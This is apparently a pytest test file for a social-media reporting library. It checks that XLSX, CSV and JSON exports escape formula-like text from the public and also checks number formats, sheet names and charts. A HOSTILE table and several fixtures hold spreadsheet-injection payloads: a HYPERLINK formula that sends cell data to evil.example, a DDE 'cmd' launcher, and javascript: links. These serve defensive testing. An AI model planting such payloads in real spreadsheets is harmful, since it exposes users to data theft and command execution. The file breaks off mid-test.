"""The report's spreadsheets: XLSX workbooks read back with openpyxl, the measurements as CSV
(read back with the csv module) and JSON, and text from the public neutralised in every one."""

from __future__ import annotations

import csv
import dataclasses
import json
import math
import re
import zipfile
from datetime import date, datetime, timezone
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from cmflow import with_series_key
from cmflow.builtin.reports.spreadsheets import (Cell, Column, Sheet, SheetChart, excel_sheet_name, measurement_table,
                                                 measurements_sheet, neutralise, write_measurements_csv,
                                                 write_measurements_json, write_xlsx)
from cmflow import neutralise as the_one_neutraliser

HOSTILE = {
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")': '\'=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(A1)": "'@SUM(A1)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "-20% off today": "'-20% off today",
    "  =1+1": "'  =1+1",  # blanks before a formula do not hide it
    " \u00a0@SUM(A1)": "' \u00a0@SUM(A1)",
    " +cmd|' /C calc'!A0": "' +cmd|' /C calc'!A0",
}
"""Text from the public, and the cell it must become."""


# -- neutralise -------------------------------------------------------------------------------

@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_starts_like_a_formula_gets_an_apostrophe(text):
    assert neutralise(text) == HOSTILE[text]


@pytest.mark.parametrize("text", ["Maison Lumière", "", "3 = 3", "email@example.com", "'quoted", "100% butter"])
def test_other_text_is_unchanged(text):
    assert neutralise(text) == text


def test_the_report_and_the_bad_rows_list_share_one_neutraliser():
    from cmflow.builtin.sources import bad_rows

    assert neutralise is the_one_neutraliser
    assert bad_rows.neutralise is the_one_neutraliser


# -- XLSX ---------------------------------------------------------------------------------------

EVERY_KIND = [Column("account", "Account"), Column("posts", "Posts", "integer"),
              Column("avg", "Average likes", "decimal"), Column("err", "ERR", "percent"),
              Column("day", "Day", "date"), Column("at", "Published", "datetime"), Column("link", "Link", "url")]


def every_kind_sheet() -> Sheet:
    return Sheet(name="Accounts", title="Accounts, 16–22 Nov 2026", columns=EVERY_KIND, rows=[
        {"account": "Maison Lumière", "posts": 1234567, "avg": 12.5, "err": 3.12, "day": date(2026, 11, 16),
         "at": datetime(2026, 11, 16, 9, 30), "link": "https://www.instagram.com/p/abc/"},
        {"account": "Trailhead", "posts": None, "avg": -2.5, "err": float("nan"), "day": None,
         "at": datetime(2026, 11, 17, 18, 5, tzinfo=timezone.utc), "link": "javascript:alert(1)"},
    ])


def read(path: Path) -> openpyxl.Workbook:
    return openpyxl.load_workbook(path)


def unescaped(text: str) -> str:
    """A cell's text as Excel shows it: the file writes a control character as ``_x000D_``
    (OOXML's escape), which openpyxl leaves as it is."""
    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), text)


def test_numbers_stay_numbers_with_their_formats_and_empty_stays_empty(tmp_path):
    path = tmp_path / "report.xlsx"
    write_xlsx([every_kind_sheet()], path, title="Maison Lumière — November")
    sheet = read(path)["Accounts"]
    first = {c.column_letter: c for c in sheet[4]}
    assert [c.value for c in sheet[3]] == ["Account", "Posts", "Average likes", "ERR", "Day", "Published", "Link"]
    assert first["A"].value == "Maison Lumière"
    assert (first["B"].value, first["B"].data_type, first["B"].number_format) == (1234567, "n", "#,##0")
    assert (first["C"].value, first["C"].number_format) == (12.5, "#,##0.00")
    assert first["D"].value == pytest.approx(0.0312) and first["D"].number_format == "0.00%"
    assert first["E"].value == datetime(2026, 11, 16) and first["E"].number_format == "[$-409]d mmm yyyy"
    assert first["F"].value == datetime(2026, 11, 16, 9, 30) and first["F"].number_format == "[$-409]d mmm yyyy hh:mm"
    assert first["G"].value == "https://www.instagram.com/p/abc/"
    assert first["G"].hyperlink.target == "https://www.instagram.com/p/abc/"
    second = {c.column_letter: c for c in sheet[5]}
    assert second["B"].value is None and second["D"].value is None and second["E"].value is None  # None, NaN
    assert (second["C"].value, second["C"].data_type) == (-2.5, "n")  # a negative number is a number
    assert second["F"].value == datetime(2026, 11, 17, 18, 5)  # the wall-clock time, zone dropped
    assert second["G"].value == "javascript:alert(1)" and second["G"].hyperlink is None  # not a web link


def test_the_sheet_has_a_title_a_frozen_header_filters_and_widths_from_its_content(tmp_path):
    path = tmp_path / "report.xlsx"
    sheet = every_kind_sheet()
    sheet.columns.append(Column("caption", "Caption"))
    sheet.columns.append(Column("n", "n", "integer"))
    sheet.rows[0]["caption"] = "x" * 200
    sheet.rows[0]["n"] = 1
    write_xlsx([sheet], path, title="Maison Lumière — November")
    book = read(path)
    worksheet = book["Accounts"]
    assert book.properties.title == "Maison Lumière — November"
    assert worksheet["A1"].value == "Accounts, 16–22 Nov 2026" and worksheet["A1"].font.b
    assert worksheet["A3"].font.b
    assert worksheet.freeze_panes == "A4"
    assert worksheet.auto_filter.ref == "A3:I5"
    widths = {letter: int(d.width) for letter, d in worksheet.column_dimensions.items()}
    # the longest content plus 2, at least 6 and at most 60 characters
    assert widths["A"] == len("Maison Lumière") + 2
    assert widths["B"] == len("1,234,567") + 2
    assert widths["C"] == len("Average likes") + 2
    assert widths["G"] == len("https://www.instagram.com/p/abc/") + 2
    assert widths["H"] == 60
    assert widths["I"] == 6


def test_french_dates_name_their_months_in_french(tmp_path):
    path = tmp_path / "rapport.xlsx"
    write_xlsx([every_kind_sheet()], path, title="Rapport", locale="fr_FR")
    cell = read(path)["Accounts"]["E4"]
    assert cell.value == datetime(2026, 11, 16) and cell.number_format == "[$-40C]d mmm yyyy"


@pytest.mark.parametrize(("names", "expected"), [
    (["Posts: top/flop [Nov]"], ["Posts top flop Nov"]),
    (["A" * 40], ["A" * 30 + "…"]),
    (["Publications les moins performantes"], ["Publications les moins…"]),
    (["Instagram", "instagram", "INSTAGRAM"], ["Instagram", "instagram (2)", "INSTAGRAM (3)"]),
    (["B" * 31, "B" * 31], ["B" * 31, "B" * 26 + "… (2)"]),
    (["'Quoted'", "", "???", "History"], ["Quoted", "Sheet", "Sheet (2)", "History (2)"]),
    (["😀" * 20], ["😀" * 15 + "…"]),  # an emoji is two of Excel's 31 characters
])
def test_sheet_names_are_made_valid_and_unique(names, expected):
    taken: set[str] = set()
    assert [excel_sheet_name(name, taken) for name in names] == expected


def test_the_workbook_uses_the_valid_unique_names(tmp_path):
    path = tmp_path / "report.xlsx"
    sheets = [Sheet(name, "t", [Column("a", "A")], [{"a": "x"}])
              for name in ("Posts: top/flop", "Posts? top*flop", "History")]
    write_xlsx(sheets, path, title="t")
    assert read(path).sheetnames == ["Posts top flop", "Posts top flop (2)", "History (2)"]


def test_text_from_the_public_is_neutralised_in_the_workbook(tmp_path):
    path = tmp_path / "report.xlsx"
    rows = [{"caption": text, "link": text, "likes": -3} for text in HOSTILE]
    sheet = Sheet("Posts", "=Posts", [Column("caption", "=Caption"), Column("link", "Link", "url"),
                                      Column("likes", "Likes", "integer")], rows)
    write_xlsx([sheet], path, title="@title")
    worksheet = read(path)["Posts"]
    for number, expected in enumerate(HOSTILE.values(), start=4):
        for letter in "AB":
            cell = worksheet[f"{letter}{number}"]
            assert (unescaped(cell.value), cell.data_type) == (expected, "s")
        assert (worksheet[f"C{number}"].value, worksheet[f"C{number}"].data_type) == (-3, "n")
    assert worksheet["A1"].value == "'=Posts" and worksheet["A3"].value == "'=Caption"
    with zipfile.ZipFile(path) as archive:
        assert not any("<f>" in archive.read(name).decode() for name in archive.namelist()
                       if name.startswith("xl/worksheets/"))  # no formula anywhere


def test_a_line_chart_reads_its_series_from_the_table(tmp_path):
    path = tmp_path / "report.xlsx"
    columns = [Column("week", "Week", "date"), Column("err", "ERR", "percent"), Column("reach", "Reach", "integer")]
    rows = [{"week": date(2026, 11, d), "err": e, "reach": r} for d, e, r in ((2, 3.1, 1000), (9, 4.4, 1200), (16, 3.0, 900))]
    trend = Sheet("Trend", "ERR by week", columns, rows,
                  charts=(SheetChart("line", "week", ("err",), title="ERR by week", colours=("#E1306C",)),))
    plain = Sheet("Plain", "No chart", columns, rows)
    write_xlsx([trend, plain], path, title="t")
    with zipfile.ZipFile(path) as archive:
        charts = [n for n in archive.namelist() if n.startswith("xl/charts/chart")]
        assert charts == ["xl/charts/chart1.xml"]  # the sheet without a chart has none
        xml = archive.read(charts[0]).decode()
        drawing_of_trend = archive.read("xl/worksheets/_rels/sheet1.xml.rels").decode()
    assert "<c:lineChart>" in xml
    assert "<c:f>Trend!$A$4:$A$6</c:f>" in xml and "<c:f>Trend!$B$4:$B$6</c:f>" in xml
    assert "<c:f>Trend!$B$3</c:f>" in xml  # the series is named by its header
    assert 'formatCode="0%"' in xml and "E1306C" in xml
    assert "drawing" in drawing_of_trend


@pytest.mark.parametrize(("chart", "message"), [
    (SheetChart("line", "month", ("err",)), "the chart's category 'month' is not a column (columns: week, err, name)"),
    (SheetChart("column", "week", ("name",)), "the chart's value 'name' is not a numeric column (numeric columns: err)"),
    (SheetChart("column", "week", ("err",), colours=("#000000", "#ffffff")), "the chart has 1 series and 2 colours"),
])
def test_a_chart_that_cannot_be_drawn_is_refused_before_writing(tmp_path, chart, message):
    path = tmp_path / "report.xlsx"
    sheet = Sheet("Trend", "t", [Column("week", "Week", "date"), Column("err", "ERR", "percent"), Column("name", "Name")],
                  [], charts=(chart,))
    with pytest.raises(ValueError) as error:
        write_xlsx([sheet], path, title="t")
    assert str(error.value) == f"sheet 'Trend': {message}"
    assert list(tmp_path.iterdir()) == []


def test_text_in_a_numeric_column_is_refused_and_the_earlier_file_is_kept(tmp_path):
    path = tmp_path / "report.xlsx"
    path.write_bytes(b"the last good report")
    sheet = Sheet("Accounts", "t", [Column("posts", "Posts", "integer")], [{"posts": 3}, {"posts": "12"}])
    with pytest.raises(ValueError) as error:
        write_xlsx([sheet], path, title="t")
    assert str(error.value) == "sheet 'Accounts', column 'posts' (integer), row 2: '12' is not a number"
    assert path.read_bytes() == b"the last good report"
    assert [p.name for p in tmp_path.iterdir()] == ["report.xlsx"]  # no temporary file left


def test_a_cell_of_its_own_kind_overrides_its_columns(tmp_path):
    """A column of KPIs of different units: a rate, a count, a decimal, each in its format."""
    sheet = Sheet("KPIs", "t", [Column("kpi", "KPI"), Column("value", "Value", "decimal")], [
        {"kpi": "ERR", "value": Cell(3.12, "percent")}, {"kpi": "Followers", "value": Cell(6143, "integer")},
        {"kpi": "Average likes", "value": 12.5}, {"kpi": "Reach", "value": Cell(None, "integer")}])
    write_xlsx([sheet], tmp_path / "r.xlsx", title="t")
    values = [(c.value, c.number_format) for c in read(tmp_path / "r.xlsx")["KPIs"]["B"][3:]]
    assert values == [(pytest.approx(0.0312), "0.00%"), (6143, "#,##0"), (12.5, "#,##0.00"), (None, "General")]
    with pytest.raises(ValueError) as error:
        Cell(1, "percentage")
    assert str(error.value) == ("cell kind 'percentage' is not one of amount, date, datetime, decimal, integer, percent, "
                                "points, text, url")


def test_an_unknown_column_kind_is_refused(tmp_path):
    sheet = Sheet("Days", "t", [Column("share", "Share", "percentage")], [])
    with pytest.raises(ValueError) as error:
        write_xlsx([sheet], tmp_path / "r.xlsx", title="t")
    assert str(error.value) == ("sheet 'Days', column 'share': kind 'percentage' is not one of amount, date, datetime, "
                                "decimal, integer, percent, points, text, url")


def test_a_link_excel_would_refuse_is_written_as_text(tmp_path):
    path = tmp_path / "r.xlsx"
    long_anchor = "https://example.com/#" + "a" * 300
    too_long = "https://example.com/" + "b" * 2100
    write_xlsx([Sheet("Links", "t", [Column("link", "Link", "url")], [{"link": long_anchor}, {"link": too_long}])],
               path, title="t")
    sheet = read(path)["Links"]
    assert (sheet["A4"].value, sheet["A4"].hyperlink) == (long_anchor, None)
    assert (sheet["A5"].value, sheet["A5"].hyperlink) == (too_long, None)


def test_a_text_date_is_refused(tmp_path):
    sheet = Sheet("Days", "t", [Column("day", "Day", "date")], [{"day": "2026-11-16"}])
    with pytest.raises(ValueError, match=r"sheet 'Days', column 'day' \(date\), row 1: '2026-11-16' is not a date"):
        write_xlsx([sheet], tmp_path / "r.xlsx", title="t")


def test_a_workbook_needs_a_sheet(tmp_path):
    with pytest.raises(ValueError, match="at least one sheet"):
        write_xlsx([], tmp_path / "r.xlsx", title="t")


def test_long_text_is_cut_to_what_a_cell_holds(tmp_path):
    path = tmp_path / "r.xlsx"
    write_xlsx([Sheet("Posts", "t", [Column("caption", "Caption")], [{"caption": "é" * 40_000}])], path, title="t")
    value = read(path)["Posts"]["A4"].value
    assert len(value) == 32_767 and value.endswith("é…")


# -- the measurements as CSV, JSON and a sheet ----------------------------------------------------

def measurements() -> pl.DataFrame:
    """Two metrics, two periods, an overall series and two accounts (one named by the public)."""
    rows = [
        # period, metric, unit, value, reason, platform, account, rank
        ("current", "engagement_rate_by_reach", "%", 3.12, None, None, None, None),
        ("previous_period", "engagement_rate_by_reach", "%", 4.0, None, None, None, None),
        ("current", "engagement_rate_by_reach", "%", None, "reach is 0", "instagram", "=HYPERLINK(\"x\")", None),
        ("current", "followers", "followers", 1200.0, None, "instagram", "Maison Lumière\nParis", None),
        ("previous_period", "followers", "followers", 1000.0, None, "instagram", "Maison Lumière\nParis", None),
        ("current", "follower_growth", "followers", -2.5, None, "instagram", "@SUM(A1)", None),
        ("current", "tiny", "count", 0.00001, None, None, None, None),
    ]
    frame = pl.DataFrame(rows, schema={"period": pl.String, "metric": pl.String, "unit": pl.String,
                                       "value": pl.Float64, "reason": pl.String, "platform": pl.String,
                                       "account": pl.String, "rank": pl.Int64}, orient="row")
    bounds = {"current": (date(2026, 11, 16), date(2026, 11, 22)),
              "previous_period": (date(2026, 11, 9), date(2026, 11, 15))}
    frame = frame.with_columns(
        pl.lit("posts").alias("basis"),
        pl.col("period").replace_strict({k: v[0] for k, v in bounds.items()}, return_dtype=pl.Date).alias("period_start"),
        pl.col("period").replace_strict({k: v[1] for k, v in bounds.items()}, return_dtype=pl.Date).alias("period_end"))
    return with_series_key(frame)


def comparisons(frame: pl.DataFrame) -> pl.DataFrame:
    """As the compare stage makes them: previous period for every current series, last year for one."""
    current = frame.filter(pl.col("period") == "current")
    previous = frame.filter(pl.col("period") == "previous_period").select("metric", "series_key",
                                                                          pl.col("value").alias("previous_value"))
    by_previous = current.join(previous, on=["metric", "series_key"], how="left").with_columns(
        pl.lit("previous_period").alias("comparison"),
        (pl.col("value") - pl.col("previous_value")).alias("change"),
        ((pl.col("value") - pl.col("previous_value")) / pl.col("previous_value") * 100).alias("change_pct"),
        pl.when(pl.col("previous_value").is_null()).then(pl.lit("no value for the comparison period"))
        .alias("change_reason"))
    by_year = current.filter(pl.col("metric") == "followers").with_columns(
        pl.lit(800.0).alias("previous_value"), pl.lit("same_period_last_year").alias("comparison"),
        pl.lit(400.0).alias("change"), pl.lit(50.0).alias("change_pct"), pl.lit(None, dtype=pl.String).alias("change_reason"))
    return pl.concat([by_previous, by_year.select(by_previous.columns)])


HEADER = ["metric", "metric_label", "period", "period_start", "period_end", "platform", "account", "rank", "value",
          "unit", "reason", "basis",
          "previous_period_value", "change_vs_previous_period", "change_pct_vs_previous_period",
          "change_reason_vs_previous_period",
          "same_period_last_year_value", "change_vs_same_period_last_year", "change_pct_vs_same_period_last_year",
          "change_reason_vs_same_period_last_year"]


def test_the_measurement_table_has_a_row_per_metric_period_and_series_with_its_comparisons():
    frame = measurements()
    columns, rows = measurement_table(frame, comparisons(frame), metric_labels={"followers": "Abonnés"})
    assert [c.key for c in columns] == HEADER
    assert [(r["metric"], r["period"], r["account"]) for r in rows] == [
        ("engagement_rate_by_reach", "previous_period", None),
        ("engagement_rate_by_reach", "current", None),
        ("engagement_rate_by_reach", "current", "=HYPERLINK(\"x\")"),
        ("follower_growth", "current", "@SUM(A1)"),
        ("followers", "previous_period", "Maison Lumière\nParis"),
        ("followers", "current", "Maison Lumière\nParis"),
        ("tiny", "current", None)]
    followers = rows[5]
    assert followers["metric_label"] == "Abonnés" and rows[0]["metric_label"] == "ERR (reach)"
    _, by_function = measurement_table(frame, metric_labels=lambda metric: metric.upper())
    assert [r["metric_label"] for r in by_function][:2] == ["ENGAGEMENT_RATE_BY_REACH"] * 2
    assert (followers["previous_period_value"], followers["change_vs_previous_period"],
            followers["change_pct_vs_previous_period"]) == (1000.0, 200.0, 20.0)
    assert (followers["same_period_last_year_value"], followers["change_pct_vs_same_period_last_year"]) == (800.0, 50.0)
    assert rows[1]["change_vs_previous_period"] == pytest.approx(-0.88)
    assert rows[1]["same_period_last_year_value"] is None
    assert rows[0]["previous_period_value"] is None  # a previous period's row has no comparison of its own


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as source:
        return list(csv.DictReader(source))


def test_the_measurements_csv_is_what_excel_and_dashboards_read(tmp_path):
    frame = measurements()
    path = tmp_path / "measurements.csv"
    write_measurements_csv(frame, path, comparisons=comparisons(frame))
    assert path.read_bytes().startswith(b"\xef\xbb\xbfmetric,metric_label,period,")  # the BOM Excel needs
    rows = read_csv(path)
    assert list(rows[0]) == HEADER
    current_err, no_reach, growth, _, followers, tiny = rows[1:]
    assert (current_err["value"], current_err["period_start"], current_err["period_end"]) == ("3.12", "2026-11-16", "2026-11-22")
    assert current_err["previous_period_value"] == "4" and current_err["change_pct_vs_previous_period"] == "-22"
    assert current_err["same_period_last_year_value"] == ""  # no value: an empty field
    assert (no_reach["value"], no_reach["reason"], no_reach["account"]) == ("", "reach is 0", "'=HYPERLINK(\"x\")")
    assert (growth["value"], growth["account"]) == ("-2.5", "'@SUM(A1)")  # a negative number stays a number
    assert followers["account"] == "Maison Lumière\nParis"  # a line break inside a quoted field
    assert (followers["value"], followers["change_vs_previous_period"]) == ("1200", "200")
    assert tiny["value"] == "0.00001"
    assert '"Maison Lumière\nParis"' in path.read_text(encoding="utf-8-sig")


def test_the_measurements_json_is_a_list_of_objects_with_numbers_as_numbers(tmp_path):
    frame = measurements()
    path = tmp_path / "measurements.json"
    write_measurements_json(frame, path, comparisons=comparisons(frame))
    rows = json.loads(path.read_text(encoding="utf-8"))
    assert isinstance(rows, list) and len(rows) == 7 and list(rows[0]) == HEADER
    current_err, no_reach, growth, _, followers = rows[1:6]
    assert current_err["value"] == 3.12 and current_err["period_start"] == "2026-11-16"
    assert current_err["change_vs_previous_period"] == pytest.approx(-0.88)
    assert followers["value"] == 1200 and isinstance(followers["value"], int)
    assert followers["account"] == "Maison Lumière\nParis"
    assert (no_reach["value"], no_reach["reason"], no_reach["account"]) == (None, "reach is 0", "'=HYPERLINK(\"x\")")
    assert (growth["value"], growth["account"]) == (-2.5, "'@SUM(A1)")


def test_measurements_without_comparisons_or_rows(tmp_path):
    frame = measurements()
    write_measurements_csv(frame, tmp_path / "m.csv")
    assert list(read_csv(tmp_path / "m.csv")[0]) == HEADER[:12]
    write_measurements_csv(None, tmp_path / "none.csv")
    assert (tmp_path / "none.csv").read_bytes() == (
        b"\xef\xbb\xbfmetric,metric_label,period,period_start,period_end,rank,value,unit,reason,basis\r\n")
    write_measurements_json(frame.head(0), tmp_path / "none.json")
    assert json.loads((tmp_path / "none.json").read_text(encoding="utf-8")) == []


def test_the_measurements_sheet_writes_rates_as_percentages(tmp_path):
    frame = measurements()
    path = tmp_path / "report.xlsx"
    write_xlsx([measurements_sheet(frame, comparisons(frame), name="Données", title="Mesures")], path,
               title="t", locale="fr")
    sheet = read(path)["Données"]
    header = [c.value for c in sheet[3]]
    assert header == HEADER
    followers = {header[c.column - 1]: c for c in sheet[9]}
    assert followers["account"].value == "Maison Lumière\nParis"
    assert followers["change_pct_vs_previous_period"].value == pytest.approx(0.2)
    assert followers["change_pct_vs_previous_period"].number_format == "0.00%"
    assert followers["period_start"].value == datetime(2026, 11, 16)
    assert sheet["G6"].value == "'=HYPERLINK(\"x\")"
    assert not math.isnan(followers["value"].value) and followers["value"].value == 1200


# -- a real run's measurements ------------------------------------------------------------------

RUN_POSTS = [
    # platform, account, post_id, published_at, likes, reach
    ("instagram", "a", "a-now", "2026-11-17T10:00:00Z", 30, 1000),
    ("instagram", "=HYPERLINK(\"https://evil.example\")", "h-now", "2026-11-18T10:00:00Z", 10, 500),
    ("instagram", "a", "a-before", "2026-11-10T10:00:00Z", 20, 1000),
    ("instagram", "a", "a-last-year", "2025-11-18T10:00:00Z", 15, 1000),
]
RUN_WORKFLOW = """
[workflow]
name = "Data files"
timezone = "UTC"
period = "2026-11-16..2026-11-22"
compare = ["previous_period", "same_period_last_year"]

[[sources]]
id = "posts"
plugin = "csv"
path = "posts.csv"

[[metrics]]
plugin = "totals"
counters = ["likes"]
by = ["account"]
"""


def test_a_runs_measurements_as_csv_with_both_comparisons(tmp_path, write_workflow, store_url):
    from cmflow.testing import run_workflow_file

    with (tmp_path / "posts.csv").open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([("platform", "account", "post_id", "published_at", "likes", "reach"), *RUN_POSTS])
    result = run_workflow_file(write_workflow(RUN_WORKFLOW), store_url=store_url, dry_run=True)
    assert result.status == "ok", result.failed_stages
    path = tmp_path / "measurements.csv"
    write_measurements_csv(result.measurements, path, comparisons=result.comparisons)
    rows = [r for r in read_csv(path) if r["metric"] == "total_likes" and r["period"] == "current"]
    fields = ("account", "value", "previous_period_value", "change_vs_previous_period", "change_pct_vs_previous_period",
              "same_period_last_year_value", "change_pct_vs_same_period_last_year",
              "change_reason_vs_same_period_last_year")
    # accounts sorted as text: "=..." before "a"; the hostile one neutralised
    assert [tuple(r[f] for f in fields) for r in rows] == [
        ("'=HYPERLINK(\"https://evil.example\")", "10", "", "", "", "", "", "no value for the comparison period"),
        ("a", "30", "20", "10", "50", "15", "100", ""),
    ]
    assert {(r["period_start"], r["period_end"]) for r in rows} == {("2026-11-16", "2026-11-22")}


def test_every_hostile_text_is_neutralised_in_the_csv_and_the_json(tmp_path):
    frame = with_series_key(pl.DataFrame({
        "period": ["current"] * len(HOSTILE), "metric": ["total_likes"] * len(HOSTILE),
        "unit": ["count"] * len(HOSTILE), "value": [-1.0] * len(HOSTILE), "platform": ["instagram"] * len(HOSTILE),
        "account": list(HOSTILE), "campaign": list(HOSTILE)}))
    write_measurements_csv(frame, tmp_path / "m.csv")
    write_measurements_json(frame, tmp_path / "m.json")
    from_csv = read_csv(tmp_path / "m.csv")
    from_json = json.loads((tmp_path / "m.json").read_text(encoding="utf-8"))
    expected = sorted(HOSTILE.values(), key=lambda text: text[1:])  # rows sorted by the text as the run has it
    for rows, minus_one in ((from_csv, "-1"), (from_json, -1)):
        assert [(r["account"], r["campaign"]) for r in rows] == [(e, e) for e in expected]
        assert {r["value"] for r in rows} == {minus_one}  # a negative number is left as it is


# -- the listening section's sheets -------------------------------------------------------------

def listening_document(**lists):
    """A report document with only a listening section: ``lists`` are its tables."""
    from cmflow.builtin.reports.document import ReportDocument
    from cmflow.builtin.reports.scopes import ReportScope

    return ReportDocument("Report", ReportScope(), date(2026, 11, 16), date(2026, 11, 22), {}, [], [], [], {},
                          [], [], [], [], [], [], datetime(2026, 11, 24, tzinfo=timezone.utc),
                          time_zone="Europe/Paris", **lists)


def test_hostile_authors_and_links_of_the_listening_lists_are_neutralised(tmp_path):
    """An author named like a formula stays text in the influencers, bursts and new authors
    sheets; a link is a link only when the HTML links it (http(s)), a javascript: one is left out."""
    from zoneinfo import ZoneInfo

    from cmflow.presentation.language import language
    from cmflow.builtin.reports.workbook import document_sheets

    hostile = '=HYPERLINK("http://evil")'
    paris = ZoneInfo("Europe/Paris")
    document = listening_document(
        influencers=[{"rank": 1, "author": hostile, "value": 812.5, "mentions": 4.0, "audience": 12000.0,
                      "engagement": 35.0, "relevance": 75.0, "example_url": "javascript:alert(1)"},
                     {"rank": 2, "author": "@sum(A1)", "value": 90.0, "mentions": 2.0, "audience": None,
                      "relevance": 50.0, "example_url": "https://social.example/@b/1"}],
        bursts=[{"value": 6.0, "burst_text": "-20% chez =evil", "burst_authors": f"{hostile} +cmd",
                 "burst_start_local": datetime(2026, 11, 20, 21, 0, tzinfo=paris),
                 "burst_end_local": datetime(2026, 11, 20, 21, 40, tzinfo=paris),
                 "example_urls": "https://x.example/1 javascript:alert(2) https://x.example/2"}],
        new_authors=[{"author": hostile, "value": 3.0, "audience": 40.0, "in_burst": "yes",
                      "first_seen_local": datetime(2026, 11, 18, 9, 5, tzinfo=paris), "example_urls": None}])
    path = tmp_path / "report.xlsx"
    write_xlsx(document_sheets(document, language("en")), path, title="Report")
    book = read(path)
    assert book.sheetnames == ["Summary", "Influencer candidates", "Bursts of mentions", "New authors"]

    influencers = book["Influencer candidates"]
    assert [c.value for c in influencers[3]] == ["Author", "Influencer score", "Author's mentions", "Author's audience",
                                                 "Interactions on their mentions", "Author's relevance", "Example"]
    assert [c.value for c in influencers[4]] == ["'" + hostile, 812.5, 4, 12000, 35, 0.75, None]
    assert [c.value for c in influencers[5]] == ["'@sum(A1)", 90, 2, None, None, 0.5, "https://social.example/@b/1"]
    assert influencers["A4"].data_type == "s" and influencers["G5"].hyperlink.target == "https://social.example/@b/1"

    bursts = book["Bursts of mentions"]
    assert [c.value for c in bursts[3]] == ["Number of authors", "Start (Europe/Paris)", "End (Europe/Paris)", "Text",
                                            "Authors", "Examples"]
    assert [c.value for c in bursts[4]] == [6, datetime(2026, 11, 20, 21, 0), datetime(2026, 11, 20, 21, 40),
                                            "'-20% chez =evil", "'" + hostile + " +cmd",
                                            "https://x.example/1\nhttps://x.example/2"]
    new = book["New authors"]
    assert [c.value for c in new[4]] == ["'" + hostile, datetime(2026, 11, 18, 9, 5), 3, 40, "yes", None]
    with zipfile.ZipFile(path) as archive:
        assert not any("<f>" in archive.read(name).decode() for name in archive.namelist()
                       if name.startswith("xl/worksheets/"))  # no formula anywhere


def test_a_report_without_listening_rows_has_no_listening_sheets(tmp_path):
    from cmflow.presentation.language import language
    from cmflow.builtin.reports.workbook import document_sheets

    assert [s.name for s in document_sheets(listening_document(), language("fr"))] == ["Synthèse"]


def test_amounts_are_in_their_currency_as_the_reports_language_writes_it(tmp_path):
    """An amount column (a cost, a revenue) shows its currency's symbol where the language puts
    it and the currency's decimals on every row, whole or not; the cell holds the number."""
    from cmflow.builtin.reports.spreadsheets import amount_format

    assert amount_format("EUR", "fr") == "#,##0.00\\ [$€]"
    assert amount_format("EUR", "en") == "[$€]#,##0.00"
    assert amount_format("JPY", "en") == "[$¥]#,##0"  # a currency without cents
    sheet = Sheet("Campagnes", "Campagnes", [Column("campaign", "Campagne"), Column("cost", "Coût", "amount", "EUR")],
                  [{"campaign": "noel", "cost": 35}, {"campaign": "avent", "cost": -255.5},
                   {"campaign": "rien", "cost": None}])
    path = tmp_path / "money.xlsx"
    write_xlsx([sheet], path, title="Argent", locale="fr")
    cells = [row[1] for row in read(path)["Campagnes"].iter_rows(min_row=4)]
    assert [(c.value, c.number_format) for c in cells[:2]] == [(35, "#,##0.00\\ [$€]"), (-255.5, "#,##0.00\\ [$€]")]
    assert cells[2].value is None


# -- the report's charts in the workbook --------------------------------------------------------

def charted_document():
    """A report document with a headline ERR and followers over three weeks, and two accounts'
    ERR this week and the week before."""
    from cmflow.builtin.reports.document import Change, Figure, PlatformSection, ReportDocument, SeriesFigures
    from cmflow.builtin.reports.scopes import ReportScope

    weeks = (date(2026, 11, 2), date(2026, 11, 9), date(2026, 11, 16))
    err = Figure("engagement_rate_by_reach", "%", 3.0, trend=tuple(zip(weeks, (3.5, None, 3.0))),
                 changes={"previous_period": Change(None, None, None)})
    followers = Figure("followers", "followers", 1250.0, trend=tuple(zip(weeks, (1200.0, 1230.0, 1250.0))))
    posts = Figure("posts_published", "posts", 4.0)

    def account(name: str, now: float, before: float | None) -> SeriesFigures:
        return SeriesFigures(("instagram", name), name, {"engagement_rate_by_reach": Figure(
            "engagement_rate_by_reach", "%", now, changes={"previous_period": Change(before, None, None)})})

    platforms = [PlatformSection("instagram", {}, [account("=HYPERLINK(\"http://evil\")", 4.25, 5.5)]),
                 PlatformSection("facebook", {}, [account("Maison Lumière", 2.5, None)])]
    return ReportDocument("Report", ReportScope(), date(2026, 11, 16), date(2026, 11, 22),
                          {"previous_period": (date(2026, 11, 9), date(2026, 11, 15))}, [err, followers, posts], [],
                          platforms, {}, [], [], [], [], [], [], datetime(2026, 11, 24, tzinfo=timezone.utc))


def test_the_workbook_charts_the_headline_trend_and_the_rate_by_account_from_its_own_cells(tmp_path):
    """The HTML's trend and bars are native Excel charts in the workbook, each series read from
    the cells of the table beside it (read back with openpyxl: the chart objects and their
    references), the figures in real number formats; a missing week is an empty cell."""
    from openpyxl.chart import BarChart, LineChart

    from cmflow.presentation.language import language
    from cmflow.builtin.reports.workbook import document_sheets

    path = tmp_path / "report.xlsx"
    write_xlsx(document_sheets(charted_document(), language("fr")), path, title="Rapport", locale="fr")
    book = read(path)
    assert book.sheetnames[:2] == ["Synthèse", "Tendance"]

    trend = book["Tendance"]
    assert [c.value for c in trend[3]] == ["Période (premier jour)", "Taux d'engagement (portée)", "Abonnés"]
    assert [[c.value for c in row] for row in trend.iter_rows(min_row=4)] == [
        [datetime(2026, 11, 2), 0.035, 1200], [datetime(2026, 11, 9), None, 1230], [datetime(2026, 11, 16), 0.03, 1250]]
    assert (trend["B4"].number_format, trend["C4"].number_format) == ("0.00%", "#,##0")
    charts = trend._charts
    assert [type(c) for c in charts] == [LineChart, LineChart]  # the rate and the count: no shared axis
    for chart, column in zip(charts, "BC"):
        (series,) = chart.series
        assert series.cat.numRef.f == "Tendance!$A$4:$A$6"
        assert series.val.numRef.f == f"Tendance!${column}$4:${column}$6"
        assert series.tx.strRef.f == f"Tendance!${column}$3"
    assert (charts[0].y_axis.number_format.formatCode, charts[1].y_axis.number_format.formatCode) == ("0%", "#,##0")

    accounts = book["Par compte"]
